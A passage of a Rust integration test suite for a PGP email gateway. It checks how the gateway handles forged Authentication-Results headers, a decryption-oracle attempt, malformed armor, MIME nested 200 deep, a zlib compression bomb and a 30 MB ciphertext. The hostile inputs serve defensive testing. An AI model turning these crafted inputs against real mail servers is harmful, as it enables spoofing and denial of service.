        .as_bytes(),
    );
    let msg = pgp_mime("forged", &inner);
    let msg = crlf(&format!(
        "{forged}Authentication-Results: other.example; spf=pass smtp.mailfrom=example.net\n"
    )) + &msg;
    send_bob(&msg);
    let copy = check(
        &sink,
        "forged",
        &[("signature", "none"), ("encryption", "decrypted")],
        Some("none"),
    );
    assert!(copy.contains("Inner text 1066."), "{copy}");
    assert!(!copy.to_ascii_lowercase().contains("pgp=pass"), "{copy}");
    let lower = copy.to_ascii_lowercase();
    assert!(!lower.contains("protected-subject: forged"), "{copy}");
    assert!(!lower.contains("signature=valid"), "{copy}");
    assert_eq!(
        field_values(&copy, "Authentication-Results")
            .iter()
            .filter(|v| v.starts_with("other.example"))
            .count(),
        1,
        "others' results are kept: {copy}"
    );

    // The reply oracle: Carol's ciphertext, sent to Bob.
    let armored = encrypt_to("carol@example.org", "Carol's secret 1729");
    send_bob(&pgp_mime("oracle", &armored));
    let copy = check(&sink, "oracle", &[("encryption", "no-key")], None);
    assert_sealed(&copy, "Carol's secret 1729");
    assert!(
        copy.contains(armored.lines().nth(3).unwrap()),
        "delivered unchanged: {copy}"
    );
}

#[test]
fn bad_input_gets_a_clear_verdict() {
    let w = World::new();
    let (sink, gw) = w.serve_to_sink("max_plaintext = \"8MiB\"\n");
    let port = gw.port();
    let alice = "Alice <alice@example.net>";
    let send_bob = |msg: &str| delivered(port, "alice@example.net", &["bob@example.org"], msg);

    // Malformed armor.
    let bad = "-----BEGIN PGP MESSAGE-----\n\nhQEMA!!!not base64 at all\n=abcd\n-----END PGP MESSAGE-----";
    send_bob(&pgp_mime("bad-armor", bad));
    check(
        &sink,
        "bad-armor",
        &[("encryption", "malformed")],
        Some("permerror"),
    );

    // A PKESK for a key nobody here has.
    let stranger = Gpg::new();
    stranger.generate("<stranger@example.com>", "default", "default", "never");
    let armored = gpg_encrypt(
        &stranger,
        &[],
        None,
        &["stranger@example.com"],
        b"Not for this gateway\n",
    );
    send_bob(&pgp_mime("unknown-pkesk", &armored));
    check(&sink, "unknown-pkesk", &[("encryption", "no-key")], None);

    // MIME nested 200 deep.
    let mut nested = String::new();
    for i in 0..200 {
        nested.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"b{i}\"\n\n--b{i}\n"
        ));
    }
    nested.push_str("Content-Type: text/plain\n\ndeep\n");
    for i in (0..200).rev() {
        nested.push_str(&format!("--b{i}--\n"));
    }
    let msg = crlf(&format!(
        "From: {alice}\nTo: bob@example.org\nSubject: deep\nX-Test-Case: deep\nMIME-Version: 1.0\n{nested}"
    ));
    send_bob(&msg);
    let copy = copy_for(&sink, "deep", "bob@example.org");
    let (v, _) = results(&copy);
    assert_eq!(verdict_of(&v, "encryption"), "none", "{copy}");

    // A compression bomb: 256 MiB of zeros, a few hundred KiB compressed.
    let zeros = vec![0u8; 256 << 20];
    let bomb = gpg_encrypt(
        &w.alice,
        &["--compress-algo", "zlib", "-z", "9"],
        None,
        &["bob@example.org"],
        &zeros,
    );
    drop(zeros);
    send_bob(&pgp_mime("bomb", &bomb));
    let copy = check(&sink, "bomb", &[("encryption", "too-large")], None);
    assert!(copy.len() < 2 << 20, "no plaintext: {} bytes", copy.len());

    // A 30 MB ciphertext (its plaintext over this gateway's 8 MiB bound).
    let mut noise = vec![0u8; 22 << 20];
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    for b in noise.iter_mut() {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *b = (x >> 32) as u8;
    }
    let big = gpg_encrypt(
        &w.alice,
        &["--compress-algo", "none"],
        None,
        &["bob@example.org"],
        &noise,
    );
    assert!(big.len() > 29 << 20, "{}", big.len());
    send_bob(&pgp_mime("big", &big));
    check(&sink, "big", &[("encryption", "too-large")], None);
}

/// The gateway's peak resident memory so far, in bytes (Linux `VmHWM`).
fn peak_rss(gw: &Server) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{}/status", gw.child.id()))
        .expect("/proc status of the gateway");
    let kb: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .expect("VmHWM");
    kb * 1024
}

#[test]
fn a_30_mb_ciphertext_is_decrypted_on_disk_not_in_memory() {
    let w = World::new();
    let (sink, gw) = w.serve_to_sink("");
    let port = gw.port();
    // Warm up (keys unlocked, threads started) before the baseline.
    let small = gpg_encrypt(
        &w.alice,
        &[],
        Some("alice@example.net"),
        &["bob@example.org"],
        b"Content-Type: text/plain\r\n\r\nwarm-up\r\n",
    );
    to_bob(port, &sink, "warm-up", &pgp_mime("warm-up", &small));
    let before = peak_rss(&gw);

    // A MIME payload with a 16 MiB attachment, signed and encrypted uncompressed: about
    // 23 MB of plaintext in a 30 MB armored ciphertext.
    let mut noise = vec![0u8; 16 << 20];
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    for b in noise.iter_mut() {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *b = (x >> 32) as u8;
    }
    let mut attachment = String::with_capacity(noise.len() * 14 / 10);
    {
        use base64::Engine;
        let b64 = base64::engine::general_purpose::STANDARD.encode(&noise);
        for line in b64.as_bytes().chunks(76) {
            attachment.push_str(std::str::from_utf8(line).unwrap());
            attachment.push_str("\r\n");
        }
    }
    drop(noise);
    let payload = format!(
        "Content-Type: application/octet-stream; name=\"noise.bin\"\r\n\
         Content-Disposition: attachment; filename=\"noise.bin\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{attachment}"
    );
    let big = gpg_encrypt(
        &w.alice,
        &["--compress-algo", "none"],
        Some("alice@example.net"),
        &["bob@example.org"],
        payload.as_bytes(),
    );
    drop(payload);
    assert!(big.len() > 29 << 20, "{}", big.len());
    let message = pgp_mime("big-decrypted", &big);
    drop(big);
    delivered(port, "alice@example.net", &["bob@example.org"], &message);
    drop(message);
    let after = peak_rss(&gw);

    let copy = copy_for(&sink, "big-decrypted", "bob@example.org");
    assert_pass(&copy, &w.alice_fpr, true);
    let body = copy
        .split_once("Content-Transfer-Encoding: base64\r\n\r\n")
        .map(|(_, b)| b)
        .expect("the attachment");
    assert!(
        body.trim_end() == attachment.trim_end(),
        "the attachment arrives byte for byte: {} bytes, expected {}; ends {:?}",
        body.len(),
        attachment.len(),
        &body[body.len().saturating_sub(200)..]
    );
    // The message and its plaintext went through the gateway on disk: its peak memory
    // grew by far less than either.
    let grown = after.saturating_sub(before);
    eprintln!(
        "30 MB ciphertext: peak RSS {} MiB before, {} MiB after",
        before >> 20,
        after >> 20
    );
    assert!(
        grown < 8 << 20,
        "peak RSS grew by {} MiB for a 30 MB message (from {} MiB)",
        grown >> 20,
        before >> 20
    );
}

/// The first message at `sink` (waiting for it), with CRLF line ends.
fn first_copy(sink: &SmtpSink, what: &str) -> String {
    wait_for(LONG, &format!("{what} at smtp-sink"), || {
        sink.messages()
            .into_iter()
            .map(|d| crlf(&d.text().replace("\r\n", "\n")))
            .next()
    })
}
